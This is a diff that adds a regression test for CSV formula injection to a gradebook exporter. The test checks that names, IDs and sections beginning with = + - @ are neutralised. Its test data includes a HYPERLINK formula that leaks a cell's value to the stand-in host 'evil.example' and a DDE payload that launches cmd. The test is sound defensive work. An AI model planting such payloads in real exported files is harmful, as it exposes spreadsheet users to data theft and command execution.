@@ -121,3 +121,46 @@ def test_command_line_writes_csv_and_report(tmp_path):
     report = (course / "canvas-grades-report.txt").read_text()
     assert "missing submission: zed has no ps01 (blank, not 0)" in report
     assert "missing submission: zed has no ps01" in done.stderr
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"x")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1)",
+]
+
+
+def test_regression_formulas_in_names_ids_and_sections_are_neutralised(tmp_path):
+    """Issue 32: a name, id or section beginning with = + - @ was written as it was, and a
+    spreadsheet opened it as a formula. Each such cell now begins with ' (OWASP); the
+    numbers Canvas matches and imports (ID, scores, points) are unchanged."""
+    course = tmp_path / "course"
+    course.mkdir()
+    with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gb:
+        gb.add_assignment("ps01")
+        gb.update_or_create_notebook("nb", "ps01")
+        gb.update_or_create_grade_cell("a-check", "nb", "ps01", max_score=14, cell_type="code")
+        for i, text in enumerate(FORMULAS):
+            gb.add_student(f"s{i}", first_name=text, last_name=text, lms_user_id=str(100 + i))
+            sub = gb.add_submission("ps01", f"s{i}")
+            sub.notebooks[0].grades[0].manual_score = 12.5
+            gb.db.commit()
+    roster = tmp_path / "export.csv"
+    lines = ["Student,ID,SIS User ID,SIS Login ID,Section,ps01 (555)", "Points Possible,,,,,14"]
+    for i, text in enumerate(FORMULAS):
+        quoted = '"' + text.replace('"', '""') + '"'
+        lines.append(f"{quoted},{900 + i},s{i},{quoted},{quoted},")
+    roster.write_text("\n".join(lines) + "\n", encoding="utf-8")
+    for result in (export(course), export(course, ["ps01"], roster)):
+        rows = _rows(write_csv(result, tmp_path / "out.csv"))
+        for row in rows:
+            for cell in row:
+                assert not cell.startswith(("=", "+", "@", "\t", "\r")), row
+                assert not cell.startswith("-") or cell.lstrip("-").replace(".", "").isdigit()
+        body = rows[2:]
+        assert sorted(r[-1] for r in body) == ["12.5"] * len(FORMULAS)
+        assert all(r[1].isdigit() for r in body) and rows[1][-1] == "14"
+        assert all(r[0].startswith("'") for r in body)  # every name began with a formula
+    sections = {r[4] for r in body}
+    assert sections == {"'" + t for t in FORMULAS}
